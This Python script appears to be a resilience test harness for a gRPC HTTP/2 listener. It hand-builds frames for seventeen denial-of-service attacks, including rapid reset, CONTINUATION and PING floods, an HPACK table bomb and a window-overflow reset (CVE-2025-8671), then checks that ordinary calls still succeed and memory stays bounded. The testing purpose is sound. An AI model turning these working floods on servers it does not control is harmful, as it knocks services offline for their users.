#!/usr/bin/env python3
"""Does to an HTTP/2 listener what nobody should, with frames of its own making, and looks whether others still get served.

    abuse.py HOST:PORT PID PATH

PATH is a unary method that takes an empty message. After each attack a good call on a connection of its own is answered
within two seconds, the process PID lives, and its memory has not grown by more than 64 MiB. Each attack is bounded in
frames and time. Prints a line for each, and exits with 1 where one did harm.
"""

import re
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
GROWTH_MAX_KIB = 64 * 1024
SECONDS = 4

address, pid, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
host, port = address.split(":")


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header without indexing (RFC 7541 §6.2.2), names and values shorter than 127 bytes or in HPACK's integers."""
    def text(data):
        out, size = bytearray(), len(data)
        if size < 127:
            return bytes([size]) + data
        out.append(127)
        size -= 127
        while size >= 128:
            out.append(size & 127 | 128)
            size >>= 7
        return bytes(out) + bytes([size]) + data
    return b"\0" + text(name) + text(value)


def head(*more):
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"a"),
              (b"content-type", b"application/grpc"), (b"te", b"trailers"), *more]
    return b"".join(literal(name, value) for name, value in fields)


class Connection:
    def __init__(self, settings=b""):
        self.socket = socket.create_connection((host, int(port)), timeout=5)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """False once the other side has closed, which is its right."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def drain(self, seconds=0.2):
        """All that comes within a time."""
        self.socket.settimeout(seconds)
        got = b""
        try:
            while chunk := self.socket.recv(65536):
                got += chunk
                if len(got) > 1 << 20:
                    break
        except OSError:
            pass
        self.socket.settimeout(5)
        return got

    def close(self):
        self.socket.close()


def flood(pieces, settings=b""):
    """Sends pieces until the other side closes, they end, or the time is over; reads so that nothing blocks."""
    connection = Connection(settings)
    end = time.monotonic() + SECONDS
    sent = 0
    connection.socket.settimeout(1)
    for piece in pieces:
        if time.monotonic() > end:
            break
        try:
            connection.socket.sendall(piece)
        except OSError:
            break
        sent += 1
        if sent % 64 == 0:
            connection.socket.setblocking(False)
            try:
                while connection.socket.recv(65536):
                    pass
            except OSError:
                pass
            connection.socket.settimeout(1)
    connection.close()
    return f"{sent} pieces"


def odd():
    return range(1, 2**31, 2)


def rapid_reset():
    return flood(frame(HEADERS, 4, stream, head()) + frame(RST, 0, stream, struct.pack(">I", 8)) for stream in odd())


def continuation_flood():
    def pieces():
        yield frame(HEADERS, 0, 1, head())
        for number in range(100_000):
            yield frame(CONTINUATION, 0, 1, literal(b"x-%d" % number, b"v" * 100))
    return flood(pieces())


def settings_flood():
    return flood(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 20 for _ in range(20_000))


def ping_flood():
    return flood(frame(PING, 0, 0, b"12345678") * 20 for _ in range(20_000))


def empty_data_flood():
    def pieces():
        yield frame(HEADERS, 4, 1, head())
        for _ in range(100_000):
            yield frame(DATA, 0, 1) * 20
    return flood(pieces())


def header_list_bomb():
    return flood(frame(HEADERS, 0, stream, head()) + frame(CONTINUATION, 0, stream, literal(b"x", b"v" * 16_000)) * 7
                 + frame(CONTINUATION, 4, stream, literal(b"y", b"v")) for stream in odd())


def table_bomb():
    """One large entry of HPACK's table, named a thousand times (the "HPACK bomb")."""
    entry = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000
    def pieces():
        yield frame(HEADERS, 4, 1, head() + entry)
        for stream in range(3, 2000, 2):
            yield frame(HEADERS, 4, stream, head() + b"\xbe" * 8000)
    return flood(pieces())


def priority_flood():
    return flood(frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 1)) * 20 for stream in odd())


def window_overflow():
    return flood(frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 1)) for _ in range(1000))


def made_you_reset():
    """Makes the server reset streams that are under way, by windows that overflow (CVE-2025-8671)."""
    overflow = struct.pack(">I", 2**31 - 1)
    return flood(frame(HEADERS, 4, stream, head()) + frame(WINDOW, 0, stream, overflow) for stream in odd())


def open_streams():
    return flood(frame(HEADERS, 4, stream, head()) for stream in range(1, 20_000, 2))


def no_window():
    """Asks, and never takes an answer."""
    def pieces():
        for stream in range(1, 4000, 2):
            yield frame(HEADERS, 4, stream, head()) + frame(DATA, 1, stream, b"\0\0\0\0\0")
    return flood(pieces(), settings=struct.pack(">HI", 4, 0))


def long_message():
    return flood(frame(HEADERS, 4, stream, head()) + frame(DATA, 0, stream, b"\0\xff\xff\xff\xff" + b"x" * 1000) for stream in odd())


def no_preface():
    connections = []
    for _ in range(200):
        one = socket.create_connection((host, int(port)), timeout=5)
        one.sendall(b"PRI * HT")
        connections.append(one)
    time.sleep(1)
    for one in connections:
        one.close()
    return f"{len(connections)} connections"


def http_1():
    one = socket.create_connection((host, int(port)), timeout=5)
    one.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
    one.close()
    return "one request"


def frame_too_large():
    return flood([b"\xff\xff\xff" + bytes([DATA, 0]) + struct.pack(">I", 1) + b"x" * 100_000])


def bad_metadata():
    return flood(frame(HEADERS, 4, stream, head((b"x-plain", b"\xff\xfe"), (b"grpc-timeout", b"9" * 100))) for stream in range(1, 2000, 2))


ATTACKS = [rapid_reset, continuation_flood, settings_flood, ping_flood, empty_data_flood, header_list_bomb, table_bomb, priority_flood,
           window_overflow, made_you_reset, open_streams, no_window, long_message, no_preface, http_1, frame_too_large, bad_metadata]


def resident_kib():
    return int(re.search(r"VmRSS:\s+(\d+)", open(f"/proc/{pid}/status").read())[1])


def good_call():
    """An empty message, answered with status 0 in two seconds."""
    connection = Connection()
    connection.send(frame(SETTINGS, 1, 0) + frame(HEADERS, 4, 1, head()) + frame(DATA, 1, 1, b"\0\0\0\0\0"))
    end, got = time.monotonic() + 2, b""
    while time.monotonic() < end:
        got += connection.drain(0.05)
        if b"grpc-status" in got or closes_stream(got):
            connection.close()
            return True
    connection.close()
    return False


def closes_stream(got):
    """Whether a frame of headers ends the stream: the trailers of an answer, however they are packed."""
    at = 0
    while at + 9 <= len(got):
        size = int.from_bytes(got[at:at + 3], "big")
        if got[at + 3] == HEADERS and got[at + 4] & 1 and at + 9 + size <= len(got):
            return True
        at += 9 + size
    return False


def main():
    if not good_call():
        raise SystemExit("a good call is not answered to begin with")
    before, failed = resident_kib(), 0
    for attack in ATTACKS:
        detail = attack()
        problem = ""
        try:
            if not good_call():
                problem = "a good call is not answered"
            elif resident_kib() - before > GROWTH_MAX_KIB:
                problem = f"{(resident_kib() - before) // 1024} MiB more memory"
        except (OSError, FileNotFoundError) as error:
            problem = f"the listener is gone: {error}"
        failed += bool(problem)
        print(f"FAIL {attack.__name__}: {problem} ({detail})" if problem else f"ok {attack.__name__} ({detail})", flush=True)
    print(f"{len(ATTACKS) - failed} passed, {failed} failed")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
